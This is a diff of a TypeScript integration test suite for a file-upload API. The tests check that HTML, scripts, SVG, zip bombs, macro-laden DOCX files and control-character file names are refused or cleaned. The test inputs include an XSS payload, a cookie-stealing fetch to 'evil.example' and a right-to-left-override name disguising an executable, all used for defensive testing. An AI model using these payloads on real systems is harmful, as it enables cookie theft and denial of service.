@@ -15,7 +15,6 @@ import { createHash } from 'node:crypto';
 import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
-import { crc32 } from 'node:zlib';
 import type { DataSource } from 'typeorm';
 import { adminDataSource, http, waitFor, withEnv } from '../../../test/harness';
 import { sampleAnswer } from '../../../test/answer-samples';
@@ -29,6 +28,7 @@ import { readCatalogDirectory } from '../catalog/catalog-files';
 import { importCatalog } from '../catalog/catalog-importer';
 import { directoryUrl, EvidenceSettings } from './evidence-settings';
 import { EVIDENCE_STORAGE, type EvidenceStorage } from './evidence-storage';
+import { DOCX_TYPE, docxBomb, docxEntries, XLSX_TYPE, xlsxEntries, zerosEntry, zip } from './evidence.test-fixtures';
 
 const PROFILE: ServiceProfile = {
   features: { ...emptyServiceFeatures(), userMedia: true, messaging: true, under18Accounts: true },
@@ -42,57 +42,16 @@ const MAX_BYTES = 64 * 1024;
 const QUOTA_BYTES = 160 * 1024;
 const REQUIREMENT = 'MSM-1';
 
-const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
-const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
-
-/** A ZIP of stored (uncompressed) entries, as small office files may be. */
-function storedZip(entries: Record<string, string>): Buffer {
-  const locals: Buffer[] = [];
-  const centrals: Buffer[] = [];
-  let offset = 0;
-  for (const [name, content] of Object.entries(entries)) {
-    const nameBytes = Buffer.from(name, 'utf8');
-    const data = Buffer.from(content, 'utf8');
-    const crc = crc32(data);
-    const local = Buffer.alloc(30);
-    local.writeUInt32LE(0x04034b50, 0);
-    local.writeUInt16LE(20, 4);
-    local.writeUInt32LE(crc, 14);
-    local.writeUInt32LE(data.length, 18);
-    local.writeUInt32LE(data.length, 22);
-    local.writeUInt16LE(nameBytes.length, 26);
-    const central = Buffer.alloc(46);
-    central.writeUInt32LE(0x02014b50, 0);
-    central.writeUInt16LE(20, 4);
-    central.writeUInt16LE(20, 6);
-    central.writeUInt32LE(crc, 16);
-    central.writeUInt32LE(data.length, 20);
-    central.writeUInt32LE(data.length, 24);
-    central.writeUInt16LE(nameBytes.length, 28);
-    central.writeUInt32LE(offset, 42);
-    locals.push(local, nameBytes, data);
-    centrals.push(central, nameBytes);
-    offset += local.length + nameBytes.length + data.length;
-  }
-  const directory = Buffer.concat(centrals);
-  const end = Buffer.alloc(22);
-  end.writeUInt32LE(0x06054b50, 0);
-  end.writeUInt16LE(Object.keys(entries).length, 8);
-  end.writeUInt16LE(Object.keys(entries).length, 10);
-  end.writeUInt32LE(directory.length, 12);
-  end.writeUInt32LE(offset, 16);
-  return Buffer.concat([...locals, directory, end]);
-}
-
-const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
 const PDF = Buffer.from('%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n');
 const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
 const JPEG = Buffer.from(
   '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
   'base64',
 );
-const DOCX = storedZip({ '[Content_Types].xml': CONTENT_TYPES, '_rels/.rels': '<Relationships/>', 'word/document.xml': '<w:document/>' });
-const XLSX = storedZip({ '[Content_Types].xml': CONTENT_TYPES, '_rels/.rels': '<Relationships/>', 'xl/workbook.xml': '<workbook/>' });
+const DOCX = zip(docxEntries());
+const XLSX = zip(xlsxEntries());
+/** Inflated office content allowed here: small, so that a bomb fits under the upload limit. */
+const MAX_UNCOMPRESSED_BYTES = 4 * 1024 * 1024;
 
 /** Deterministic "random" bytes (a linear congruential generator), NULs and high bytes included. */
 function noise(length: number, seed = 7): Buffer {
@@ -153,7 +112,7 @@ describe('evidence (real PostgreSQL)', () => {
     api = await withEnv({}, async () => {
       const moduleRef = await Test.createTestingModule({ imports: [ApiModule] })
         .overrideProvider(EvidenceSettings)
-        .useValue(new EvidenceSettings(MAX_BYTES, QUOTA_BYTES, directoryUrl(storageDir)))
+        .useValue(new EvidenceSettings(MAX_BYTES, QUOTA_BYTES, directoryUrl(storageDir), { maxEntries: 1000, maxUncompressedBytes: MAX_UNCOMPRESSED_BYTES }))
         .compile();
       const app = moduleRef.createNestApplication<NestExpressApplication>({ bodyParser: false, logger: new JsonLogger('error', 'beacon-test') });
       configureHttpApp(app);
@@ -193,7 +152,7 @@ describe('evidence (real PostgreSQL)', () => {
     ['a Windows executable', Buffer.concat([Buffer.from('MZ'), noise(200)]), 'tool.exe', 'application/octet-stream'],
     ['HTML named .txt', Buffer.from('<!-- notes -->\n<html><body><script>alert(1)</script></body></html>\n'), 'notes.txt', 'text/plain'],
     ['random binary', noise(512, 42), 'data.bin', 'application/octet-stream'],
-    ['a ZIP that is no office file', storedZip({ 'readme.txt': 'hello' }), 'archive.docx', DOCX_TYPE],
+    ['a ZIP that is no office file', zip({ 'readme.txt': 'hello' }), 'archive.docx', DOCX_TYPE],
   ])('refuses %s with 415 and stores nothing', async (_label, bytes, filename, sentType) => {
     const rows = await rowCount();
     const files = filesUnder(storageDir).length;
@@ -201,6 +160,39 @@ describe('evidence (real PostgreSQL)', () => {
     expect((res.body as ErrorResponse).code).toBe('EVIDENCE_UNSUPPORTED_TYPE');
     expect(await rowCount()).toBe(rows);
     expect(filesUnder(storageDir)).toHaveLength(files);
+  });
+
+  it.each([
+    ['HTML under its own name', Buffer.from('<p>Quarterly review</p>\n'), 'review.html', 'text/html', 'markup-or-script-name'],
+    ['XHTML under its own name', Buffer.from('Reviewed.\n'), 'review.xhtml', 'application/xhtml+xml', 'markup-or-script-name'],
+    ['JavaScript under its own name', Buffer.from('run()\n'), 'helper.js', 'text/javascript', 'markup-or-script-name'],
+    ['SVG under its own name', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'logo.svg', 'image/svg+xml', 'markup-or-script-name'],
+    ['text the client calls HTML', Buffer.from('Plain words.\n'), 'notes.txt', 'text/html', 'markup-or-script-type'],
+    ['an HTML fragment named .txt', Buffer.from('Summary\n<p>Quarterly <a href="https://example.org">review</a></p>\n'), 'notes.txt', 'text/plain', 'markup'],
+    ['an event handler named .txt', Buffer.from('x <img src=x onerror=alert(document.cookie)>'), 'notes.txt', 'text/plain', 'markup'],
+    ['XHTML named .txt', Buffer.from('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'), 'notes.txt', 'text/plain', 'markup'],
+    ['SVG with a script named .txt', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'notes.txt', 'text/plain', 'markup'],
+    ['JavaScript named .txt', Buffer.from('function steal() {\n  fetch("https://evil.example/?c=" + document.cookie);\n}\n'), 'notes.txt', 'text/plain', 'script'],
+    ['a DOCX zip bomb whose headers understate its size', docxBomb(32), 'procedure.docx', DOCX_TYPE, 'zip-understated-size'],
+    ['a DOCX that declares more than may be inflated', zip(docxEntries([zerosEntry('word/media/filler.bin', 5)])), 'procedure.docx', DOCX_TYPE, 'zip-too-large-uncompressed'],
+    ['a DOCX with macros', zip(docxEntries([{ name: 'word/vbaProject.bin', content: 'Attribute VB_Name' }])), 'procedure.docx', DOCX_TYPE, 'office-macros'],
+  ])('refuses %s with 415, the field and the reason, and stores nothing', async (_label, bytes, filename, sentType, reason) => {
+    expect(bytes.length).toBeLessThanOrEqual(MAX_BYTES);
+    const rows = await rowCount();
+    const files = filesUnder(storageDir).length;
+    const res = await upload(owner, assessment.id, bytes, filename, sentType).expect(415);
+    const error = res.body as ErrorResponse;
+    expect(error).toMatchObject({ code: 'EVIDENCE_UNSUPPORTED_TYPE', details: [{ field: 'file', reasons: [reason] }] });
+    expect(error.message).toContain('Send a PDF');
+    expect(typeof error.correlationId).toBe('string');
+    expect(await rowCount()).toBe(rows);
+    expect(filesUnder(storageDir)).toHaveLength(files);
+  });
+
+  it('accepts prose that merely contains < signs as plain text', async () => {
+    const prose = Buffer.from('Reports fell: 12 < 15 (x<y). Contact <trust-safety@example.org>.\nTemplate: Subject: <subject>, Body: <body>.\n');
+    const body = (await upload(owner, assessment.id, prose, 'notes.txt', 'text/plain').expect(201)).body as EvidenceResponse;
+    expect(body).toMatchObject({ fileName: 'notes.txt', mediaType: 'text/plain' });
   });
 
   it('refuses a file over the size limit with 413 while receiving it, and stores nothing', async () => {
@@ -227,6 +219,23 @@ describe('evidence (real PostgreSQL)', () => {
     expect(error.message).toContain('storage is full');
     expect(error.details).toEqual({ usedBytes: 120 * 1024, quotaBytes: QUOTA_BYTES, fileBytes: 60 * 1024 });
     expect(filesUnder(storageDir)).toHaveLength(files);
+  });
+
+  it('stores names without bidirectional or other control characters, and downloads under an extension that fits the detected type', async () => {
+    const created = (await upload(owner, assessment.id, PDF, 'invoice\u202Efdp.exe', 'application/octet-stream').expect(201)).body as EvidenceResponse;
+    expect(created.fileName).toBe('invoicefdp.exe');
+    const [row] = await admin.query<{ file_name: string }[]>(`SELECT file_name FROM evidence WHERE id = $1`, [created.id]);
+    expect(row!.file_name).toBe('invoicefdp.exe');
+    const res = await http(api).get(`/api/v1/assessments/${assessment.id}/evidence/${created.id}`).set(as(owner)).buffer(true).parse(binary).expect(200);
+    expect(Buffer.compare(res.body as Buffer, PDF)).toBe(0);
+    expect(res.headers['content-type']).toBe('application/pdf');
+    expect(res.headers['x-content-type-options']).toBe('nosniff');
+    expect(res.headers['content-disposition']).toBe(`attachment; filename="invoicefdp.exe.pdf"; filename*=UTF-8''invoicefdp.exe.pdf`);
+
+    const text = (await upload(owner, assessment.id, Buffer.from('Moderation notes.\n'), 'report.pdf', 'application/pdf').expect(201)).body as EvidenceResponse;
+    const download = await http(api).get(`/api/v1/assessments/${assessment.id}/evidence/${text.id}`).set(as(owner)).expect(200);
+    expect(download.headers['content-type']).toBe('text/plain; charset=utf-8');
+    expect(download.headers['content-disposition']).toBe(`attachment; filename="report.pdf.txt"; filename*=UTF-8''report.pdf.txt`);
   });
 
   it('downloads the same bytes as an attachment with nosniff and the stored type', async () => {
